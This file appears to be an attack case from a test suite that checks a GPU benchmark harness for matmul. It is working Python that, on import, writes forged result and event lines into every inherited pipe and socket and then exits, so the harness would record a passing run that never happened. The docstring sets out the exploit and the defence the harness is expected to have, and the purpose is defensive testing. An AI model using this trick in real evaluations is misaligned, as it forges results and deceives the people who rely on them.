"""Attack PG-fd_overwrite (task matmul): write forged results into every
pipe and socket the candidate's process holds, then exit before any call.

Adapts: gpu-mode/pygpubench exploits/submission_fd_overwrite.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission finds the inherited result pipe
among its descriptors (fstat: a FIFO), writes a complete fake result into
it at import time and calls os._exit(0), so the harness's parent reads a
clean, fast run that never happened.

What it does: at import, for every descriptor 0..1023 that is a FIFO or a
socket, writes forged lines of the kind the runner reads from the
candidate's process: events it would like logged (a "slot" whose
candidate file is the reference's, a "probe" with no targets, a "done"),
then answers (a build that succeeded, a call with status ok, a collect
whose file is the reference's own file, ../runner/tensors/s00c0-ref.kt).
Then os._exit(0).  work/attack-fd-overwrite.marker lists the descriptors
written.

What it exploits (in pygpubench): the result channel is reachable from
the submission and the parent believes what arrives on it.

What a correct defence must do: believe nothing from the candidate's
process but its outputs: events of kinds its request may not give refused
(party_event_refused), the file of a collect taken only under the name the
runner gave and only as a regular file of its own, and a process that
ends before answering its calls candidate-process-ended; the semantic
axis then FAIL or INCONCLUSIVE with its cause, never PASS.
"""
import json
import os
import stat

_REF = "../runner/tensors/s00c0-ref.kt"
_LINES = [
    {"op": "event", "event": {"event": "slot", "slot": 0, "calls": [{"cand": "tensors/s00c0-ref.kt",
                                                                    "ref": "tensors/s00c0-ref.kt"}]}},
    {"op": "event", "event": {"event": "probe", "status": "no-targets", "targets": [], "replays": []}},
    {"op": "event", "event": {"event": "done"}},
    {"op": "answer", "ok": True},
    {"op": "answer", "ok": True, "status": "ok", "candidate_mutates": []},
    {"op": "answer", "ok": True, "file": _REF},
] * 4
_DATA = "".join(json.dumps(x) + "\n" for x in _LINES).encode()

_written = []
for _fd in range(1024):
    try:
        _m = os.fstat(_fd).st_mode
        if stat.S_ISFIFO(_m) or stat.S_ISSOCK(_m):
            os.write(_fd, _DATA)
            _written.append(_fd)
    except OSError:
        continue
try:
    with open("attack-fd-overwrite.marker", "w") as _f:
        _f.write("wrote forged lines to descriptors %s\n" % _written)
except OSError:
    pass
os._exit(0)
